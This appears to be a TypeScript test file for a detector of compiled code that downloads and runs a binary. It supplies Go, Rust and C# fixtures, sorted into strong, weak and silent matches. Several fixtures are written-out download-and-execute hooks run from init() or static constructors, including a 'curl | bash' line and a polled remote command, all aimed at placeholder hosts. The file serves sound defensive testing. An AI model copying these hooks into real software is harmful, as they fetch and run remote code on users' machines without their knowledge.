import { testLures } from '../../../test/support/lures.ts';
import detector from './compiled-download-to-exec.ts';

const GO = (head: string, url: string): string =>
  `package config\n\nimport (\n\t"io"\n\t"net/http"\n\t"os"\n\t"os/exec"\n)\n\n${head} {\n\tr, _ := http.Get("${url}")\n\tb, _ := io.ReadAll(r.Body)\n\tp := os.TempDir() + "/a"\n\tos.WriteFile(p, b, 0o755)\n\texec.Command(p).Start()\n}\n`;

testLures(detector, {
  strong: {
    'init of a package': { 'internal/config/remote.go': GO('func init()', 'https://fixture.invalid/agent') },
    'bare address': { 'cmd/a/main.go': GO('func main()', 'http://192.0.2.1/agent') },
    'through a helper': {
      'a.go':
        'package a\nimport ("net/http"; "os/exec"; "os"; "io")\nfunc fetch(u string, path string) {\n\tr, _ := http.Get(u)\n\tf, _ := os.Create(path)\n\tio.Copy(f, r.Body)\n}\nfunc init() {\n\tpath := "/tmp/x"\n\tfetch("https://fixture.invalid/x", path)\n\texec.Command(path).Run()\n}\n',
    },
    'shell line in Go': {
      'main.go':
        'package main\nimport "os/exec"\nfunc init() {\n\texec.Command("sh", "-c", "curl -s https://fixture.invalid/a | bash").Start()\n}\n',
    },
    'fetched command in Go': {
      'main.go':
        'package main\nimport ("net/http"; "io"; "os/exec")\nfunc poll() {\n\tresp, _ := http.Get("https://fixture.invalid/task")\n\tbody, _ := io.ReadAll(resp.Body)\n\texec.Command("sh", "-c", string(body)).Run()\n}\n',
    },
    Rust: {
      'src/main.rs':
        'use std::process::Command;\nfn boot() {\n    let body = reqwest::blocking::get("http://192.0.2.4/a").unwrap().bytes().unwrap();\n    let path = std::env::temp_dir().join("a");\n    std::fs::write(&path, &body).unwrap();\n    Command::new(&path).spawn().unwrap();\n}\n',
    },
    'C#, static': {
      'Assets/Editor/Boot.cs':
        'using System.Net;\nclass Boot {\n  static Boot() {\n    var path = "a.exe";\n    new WebClient().DownloadFile("http://192.0.2.9/a", path);\n    Process.Start(path);\n  }\n}\n',
    },
  },
  weak: {
    'an update of its own': { 'update.go': GO('func Update()', 'https://releases.fixture.example/app') },
    'release page': { 'install.go': GO('func init()', 'https://github.com/a/b/releases/download/v1/a') },
  },
  silent: {
    'fetching and a compiler': {
      'a.go':
        'package a\nimport ("net/http"; "os/exec")\nfunc a() {\n\thttp.Get("https://fixture.example")\n\texec.Command("git", "status").Run()\n}\n',
    },
    'two functions': {
      'a.go':
        'package a\nimport ("net/http"; "os/exec"; "os")\nfunc get() {\n\thttp.Get("https://fixture.example")\n\tos.WriteFile(name, b, 0644)\n}\nfunc run(bin string) {\n\texec.Command(bin).Run()\n}\n',
    },
    'an installer': {
      'a.rs': 'fn a() { Command::new("sh").arg("-c").arg("curl -sSf https://sh.rustup.rs | sh").status(); }\n',
    },
  },
});
